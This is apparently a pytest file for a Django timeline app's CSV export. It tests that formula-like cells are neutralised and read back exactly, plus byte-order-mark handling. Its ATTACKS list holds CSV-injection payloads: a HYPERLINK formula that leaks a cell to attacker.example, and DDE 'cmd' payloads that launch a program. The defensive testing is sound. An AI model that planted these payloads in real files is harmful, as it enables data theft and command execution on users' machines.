"""The CSV export as spreadsheets and CSV readers get it: no cell runs as a formula, every value can
be read back exactly, and the Excel variant (UTF-8 with a byte-order mark) keeps non-ASCII names."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from timeline import services
from timeline.exports.csv import BOM, FORMULA_STARTS, neutralise, restore
from timeline.models import Event

from .api_helpers import content

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows(response) -> list[dict]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(content(response).decode("utf-8-sig"))))


def test_a_cell_that_could_run_as_a_formula_is_written_with_a_quote_in_front(api_client, db):
    for n, title in enumerate(ATTACKS):
        services.event_create(title=title, date=f"{2000 + n}", summary=title)
    stored = list(Event.objects.order_by("earliest").values_list("title", "summary"))
    assert all(title[0] in FORMULA_STARTS for title, _ in stored)  # as dangerous as stored
    written = rows(api_client.get("/api/events/?format=csv"))
    assert [(r["title"], r["summary"]) for r in written] == [(f"'{t}", f"'{s}") for t, s in stored]
    assert all(r[column][:1] not in FORMULA_STARTS for r in written for column in r)


def test_every_cell_reads_back_as_stored_by_dropping_the_added_quote(api_client, db):
    titles = [*ATTACKS, "'Tis the season", "''=already quoted", "Plain title", "Talks, again"]
    for n, title in enumerate(titles):
        services.event_create(title=title, date=f"{2000 + n}", summary=f"{title}\nsecond line")
    by_id = {row["id"]: row for row in rows(api_client.get("/api/events/?format=csv"))}
    for event in Event.objects.all():
        row = by_id[str(event.pk)]
        assert restore(row["title"]) == event.title
        assert restore(row["summary"]) == event.summary
    plain = Event.objects.get(title="Plain title")
    assert by_id[str(plain.pk)]["title"] == "Plain title"  # nothing else is changed
    assert by_id[str(plain.pk)]["date_earliest"] == plain.earliest.isoformat()


@given(st.text())
def test_restore_undoes_neutralise_and_no_written_cell_starts_a_formula(text):
    written = neutralise(text)
    assert restore(written) == text
    assert written[:1] not in FORMULA_STARTS


def test_the_excel_variant_starts_with_a_byte_order_mark_and_keeps_non_ascii_names(api_client, db):
    services.event_create(title="Зеленський підписує указ", date="2022")
    plain = content(api_client.get("/api/events/?format=csv"))
    excel = content(api_client.get("/api/events/?format=csv&bom=true"))
    assert not plain.startswith(BOM)
    assert excel == BOM + plain
    [row] = csv.DictReader(io.StringIO(excel.decode("utf-8-sig")))
    assert row["title"] == "Зеленський підписує указ"
    assert list(row) == next(csv.reader(io.StringIO(plain.decode())))  # the BOM is not in the first column name


def test_a_bad_bom_value_is_a_json_400_naming_it(api_client, db):
    response = api_client.get("/api/events/?format=csv&bom=maybe")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"bom": ["'maybe' is not true or false"]}


# These tests read the events their fixtures create (drafts) as an anonymous client: drafts shown.
_marks = globals().get("pytestmark", [])
pytestmark = [*(_marks if isinstance(_marks, list) else [_marks]), pytest.mark.usefixtures("drafts_public")]


def test_source_ids_lists_each_cited_source_once_in_order_without_reading_the_sources(api_client, db):
    """The CSV shows only which sources an event cites: its citations are read as source ids alone
    (no join to the sources, their publishers or who said the quote), and the column is the same
    as the full listing's (each source once, in the order of their ids)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from timeline import selectors

    first = services.source_create(title="First", text="Kyiv was shelled. Talks resumed in March.")
    second = services.source_create(title="Second", text="Talks resumed, the envoy said.")
    event = services.event_create(title="Talks", date="2022-03")
    services.citation_add(event=event, source=second, quote="Talks resumed")
    services.citation_add(event=event, source=first, quote="Talks resumed")
    services.citation_add(event=event, source=first, quote="Kyiv was shelled")
    with CaptureQueriesContext(connection) as captured:
        written = rows(api_client.get("/api/events/?format=csv"))
    assert [r["source_ids"] for r in written] == [f"{first.pk};{second.pk}"]
    assert not [q["sql"] for q in captured.captured_queries if "timeline_source" in q["sql"]]
    full = selectors.events_for_listing(Event.objects.all()).get()
    assert [c.source_id for c in selectors.listed(full, "citations")] == [first.pk, first.pk, second.pk]


def test_a_listing_refuses_a_citation_detail_it_does_not_know(db):
    with pytest.raises(ValueError, match="citations must be one of"):
        Event.objects.for_listing(citations="quotes")
